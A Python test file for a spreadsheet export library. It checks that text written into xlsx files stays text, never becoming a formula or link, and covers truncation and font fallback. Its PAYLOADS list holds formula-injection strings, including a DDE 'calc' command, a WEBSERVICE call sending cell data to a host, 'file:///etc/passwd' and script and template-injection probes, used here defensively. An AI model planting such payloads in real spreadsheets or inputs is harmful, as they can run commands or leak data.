"""Text goes in and comes back as it was, and never becomes a formula or a link."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from workbooks import one_section, opened, parts, strings_of_column

from migplan.documents import Column, EntryTable, Heading, Holds, Note, Paragraph, Span, Table
from migplan_office.lint import lint
from migplan_office.text import clean

PAYLOADS = [
    "=1+1", "==1", "=", "{=1}", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x")', '=WEBSERVICE("http://x/"&A1)', '=DDE("cmd";"/C";"x")', '=IMPORTXML("http://x","//a")',
    "#N/A", "#REF!", "http://x", "mailto:a@b", "file:///etc/passwd", "\\\\host\\share", "javascript:alert(1)",
    "internal:Sheet1!A1", "external:c:\\x.xlsx", "_x0041_", "R&D", "a\u202eb", "001", "1e5", "true", "2025-01-01",
    "</w:t>", "{{7*7}}", "{0.__class__}",
]  # fmt: skip


def table_of(texts: list[str]) -> Table:
    return Table("texts", "Texts", [Column("a", "A"), Column("b", "B")], [(text, "x") for text in texts])


def read_back(data: bytes, count: int) -> list[str]:
    texts = strings_of_column(data, "xl/worksheets/sheet2.xml", "A")
    return [texts.get(row, "") for row in range(5, 5 + count)]


def test_payloads_stay_text_in_every_place():
    blocks = [
        Table("texts", PAYLOADS[0], [Column("a", PAYLOADS[0], choices=tuple(PAYLOADS)), *(Column(f"c{n}", text) for n, text in enumerate(PAYLOADS))], [(text,) for text in PAYLOADS]),
        EntryTable("entry", "", [Column("a", "=1+1", hint="=1+1", holds=Holds.CHOICE, choices=("=1+1", "@x"))], [("=1+1",)]),
        *(Paragraph(text) for text in PAYLOADS),
        *(Heading(text) for text in PAYLOADS),
        *(Note(Span(text, link=text)) for text in PAYLOADS),
    ]  # fmt: skip

    data = one_section(blocks, message="=1+1")

    for name, text in parts(data).items():
        assert "<f>" not in text, name
        if name.endswith(".rels"):
            assert set(_links(text)) <= {"http://x", "mailto:a@b"}, name
    assert lint(data) == ()


def _links(relations: str) -> list[str]:
    return [line.split('"')[0] for line in relations.split('Target="')[1:] if 'TargetMode="External"' in line]


def test_the_loop_export_read_export_keeps_payloads_text():
    first = one_section([table_of(PAYLOADS)])
    second = one_section([table_of(read_back(first, len(PAYLOADS)))])

    assert read_back(second, len(PAYLOADS)) == [clean(text) for text in PAYLOADS]
    assert "<f>" not in parts(second)["xl/worksheets/sheet2.xml"]


def test_text_like_a_formula_is_marked_for_excel():
    data = one_section([table_of(["=1+1"])])

    assert opened(data)["Things"]["A5"].quotePrefix


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=40), min_size=25, max_size=25))
def test_any_text_comes_back_cleaned_and_otherwise_the_same(texts):
    data = one_section([table_of(texts)])

    assert read_back(data, len(texts)) == [clean(text) for text in texts]


@pytest.mark.parametrize("length", [32_767, 40_000])
def test_a_text_too_long_for_a_cell_is_cut_with_a_mark(length):
    data = one_section([table_of(["a" * length])])

    text = read_back(data, 1)[0]

    assert len(text) == 32_767
    assert text.endswith("…") == (length > 32_767)
    assert lint(data) == ()


def test_letters_that_the_font_lacks_get_a_font_that_has_them():
    data = one_section([table_of(["Azul ⴰⵣⵓⵍ مرحبا"])])

    strings = parts(data)["xl/sharedStrings.xml"]
    assert '<rFont val="Ebrima"/>' in strings
    assert '<rFont val="Arial"/>' in strings
